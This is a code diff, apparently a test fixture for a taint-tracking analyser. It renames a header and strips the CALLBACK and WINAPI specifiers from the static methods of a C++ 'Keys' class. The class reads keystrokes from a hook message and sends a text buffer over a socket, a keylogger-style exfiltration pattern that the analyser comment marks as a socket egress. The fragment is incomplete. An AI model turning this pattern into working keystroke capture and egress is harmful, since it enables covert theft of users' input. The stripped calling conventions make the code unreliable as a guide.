@@ -1,11 +1,11 @@
-// --- path: keys.h ---
+// --- path: keys.hpp ---
 // Static methods that are defined outside of their class: whoever is given one calls it without an object.
 #include <windows.h>
 
 class Keys {
 public:
-    static LRESULT CALLBACK OnMessage(int code, WPARAM first, LPARAM second);
-    static DWORD WINAPI Work(LPVOID given);
+    static LRESULT OnMessage(int code, WPARAM first, LPARAM second);
+    static DWORD Work(LPVOID given);
     void Start(SOCKET wire);
     void Flush();
     void Quiet();
@@ -13,11 +13,11 @@ public:
     char text[100];
 };
 // --- path: keys.cpp ---
-#include "keys.h"
+#include "keys.hpp"
 
 static char pressed[100];
 
-LRESULT CALLBACK Keys::OnMessage(int code, WPARAM first, LPARAM second) {
+LRESULT Keys::OnMessage(int code, WPARAM first, LPARAM second) {
     MSG *message = (MSG *)second;
     char key[2];
     key[0] = message->wParam;
@@ -25,7 +25,7 @@ LRESULT CALLBACK Keys::OnMessage(int code, WPARAM first, LPARAM second) {
     return 0;
 }
 
-DWORD WINAPI Keys::Work(LPVOID given) {
+DWORD Keys::Work(LPVOID given) {
     Keys *self = (Keys *)given;
     send(self->wire, self->text, 10, 0); //~ sink(egress.socket) s2, finding(traced) s2
     return 0;
